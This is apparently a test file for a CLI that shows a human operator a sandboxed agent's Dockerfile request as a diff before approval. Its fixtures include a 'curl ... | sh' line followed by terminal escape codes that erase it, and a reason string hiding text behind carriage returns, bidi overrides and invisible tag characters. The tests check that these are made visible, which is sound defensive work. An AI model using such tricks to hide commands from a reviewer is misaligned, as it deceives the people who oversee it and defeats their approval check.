import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { capabilityReview, currentDockerfile } from '../../../src/cli/capability-review.js';
import { lineDiff } from '../../../src/cli/line-diff.js';
import type { Session } from '../../../src/cli/session.js';
import type { LifecycleEvent } from '../../../src/events/schema.js';
import { MAX_SHOWN_REASON_LINES } from '../../../src/shared/visible-text.js';
import { foldEvents, initialBottleState, type PendingCapability } from '../../../src/machines/index.js';
import { history, launchSteps, samplePlan, type Step } from '../../golden/fixtures.js';

const ID = 'dev-a1b2c';
const CONTROL = /[\u0000-\u001f\u007f-\u009f]/;
const dir = mkdtempSync(join(tmpdir(), 'cb-review-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const dockerfilePath = join(dir, 'dev.Dockerfile');
writeFileSync(dockerfilePath, 'FROM debian:bookworm-slim\nRUN apt-get update\nUSER node\n');
const plan = samplePlan(ID, {
  image: { tag: 'claude-bottle/dev:0123456789abcdef', context_hash: 'x', dockerfile: dockerfilePath, builtin: false },
});

const ask = (request_id: string, dockerfile: string, reason = 'need pip'): Step => [
  'capability.requested',
  { request_id, kind: 'dockerfile', dockerfile, reason, queue_if_pending: true },
];

function fakeSession(events: LifecycleEvent[]): Session {
  return { log: { read: async () => events } } as unknown as Session;
}

function review(events: LifecycleEvent[]) {
  const live = foldEvents(initialBottleState(ID), events);
  return capabilityReview(fakeSession(events), ID, live, live.context.pendingCapability!);
}

describe('bottle approve shows the request it approves', () => {
  it('shows a Dockerfile request as a diff against the bottle current Dockerfile, escapes made visible', async () => {
    const requested =
      'FROM debian:bookworm-slim\nRUN apt-get update\n' +
      'RUN curl -s https://x.test/i.sh | sh\u001b[1A\u001b[2K\nUSER node\n';
    const lines = await review(
      history([...launchSteps(ID, plan), ask('cap-7', requested, 'need pip\r\u001b[2Kegress pypi.org:443')]),
    );
    for (const line of lines) expect(line).not.toMatch(CONTROL);
    expect(lines[0]).toBe(`request cap-7 from ${ID}: dockerfile`);
    expect(lines[1]).toBe('reason: need pip\\r\\x1b[2Kegress pypi.org:443');
    expect(lines).toContain(`requested Dockerfile, as a diff against the current one (${dockerfilePath}):`);
    expect(lines).toContain('  RUN apt-get update');
    expect(lines).toContain('+ RUN curl -s https://x.test/i.sh | sh\\x1b[1A\\x1b[2K');
    expect(lines).toContain('  USER node');
    expect(lines.filter((l) => l.startsWith('- '))).toEqual([]);
  });

  it('shows a reason with invisible characters spelled out and its padding bounded', async () => {
    const tags = [...'sh'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
    const reason = `need\u200b pip \u202eevil${tags}${'\n'.repeat(100)}and the real ending`;
    const lines = await review(history([...launchSteps(ID, plan), ask('cap-9', 'FROM scratch\n', reason)]));
    expect(lines[0]).toBe(`request cap-9 from ${ID}: dockerfile`);
    expect(lines[1]).toBe('reason: need\\u200b pip \\u202eevil\\u{e0073}\\u{e0068}');
    const reasonLines = lines.slice(
      1,
      lines.findIndex((l) => l.startsWith('requested Dockerfile')),
    );
    expect(reasonLines).toHaveLength(MAX_SHOWN_REASON_LINES);
    expect(reasonLines.at(-1)).toMatch(/^ {8}… \(\d+ more lines\)$/);
    for (const line of lines) expect(line).not.toMatch(/[\p{Cc}\p{Cf}]/u);
  });

  it('reads the Dockerfile body from the capability.requested event, not from the live state', async () => {
    const events = history([...launchSteps(ID, plan), ask('cap-8', 'FROM scratch\n')]);
    const live = foldEvents(initialBottleState(ID), events);
    // The live state may or may not still carry the body; the review must not depend on it.
    const pending = { ...live.context.pendingCapability!, dockerfile: undefined } as PendingCapability;
    const lines = await capabilityReview(fakeSession(events), ID, live, pending);
    expect(lines).toContain('+ FROM scratch');
  });

  it('refuses to approve what it cannot show', async () => {
    const events = history([...launchSteps(ID, plan), ask('cap-9', 'FROM scratch\n')]);
    const live = foldEvents(initialBottleState(ID), events);
    const withoutBody = events.filter((e) => e.type !== 'capability.requested');
    await expect(capabilityReview(fakeSession(withoutBody), ID, live, live.context.pendingCapability!)).rejects.toThrow(
      /not in .* event log/,
    );
  });

  it('takes the last approved Dockerfile request as the current Dockerfile', () => {
    const events = history([
      ...launchSteps(ID, plan),
      ask('cap-1', 'FROM one\n'),
      ['capability.approved', { request_id: 'cap-1', by: 'op' }],
    ]);
    const live = foldEvents(initialBottleState(ID), events);
    expect(currentDockerfile(events, live)).toEqual({ source: 'approved in request cap-1', text: 'FROM one\n' });
    expect(currentDockerfile(events.slice(0, -1), live).text).toBe(
      'FROM debian:bookworm-slim\nRUN apt-get update\nUSER node\n',
    );
  });
});

describe('lineDiff', () => {
  it('keeps common lines and marks removed and added ones', () => {
    expect(lineDiff(['a', 'b', 'c', 'd'], ['a', 'x', 'c', 'd', 'e'])).toEqual([
      { op: ' ', text: 'a' },
      { op: '-', text: 'b' },
      { op: '+', text: 'x' },
      { op: ' ', text: 'c' },
      { op: ' ', text: 'd' },
      { op: '+', text: 'e' },
    ]);
  });

  it('always rebuilds both sides exactly', () => {
    const before = ['FROM a', 'RUN 1', 'RUN 2', 'RUN 3', 'USER node', 'RUN 2'];
    const after = ['FROM b', 'RUN 2', 'RUN 1', 'USER node', 'RUN 4', 'RUN 2'];
    const diff = lineDiff(before, after);
    expect(diff.filter((d) => d.op !== '+').map((d) => d.text)).toEqual(before);
    expect(diff.filter((d) => d.op !== '-').map((d) => d.text)).toEqual(after);
  });
});
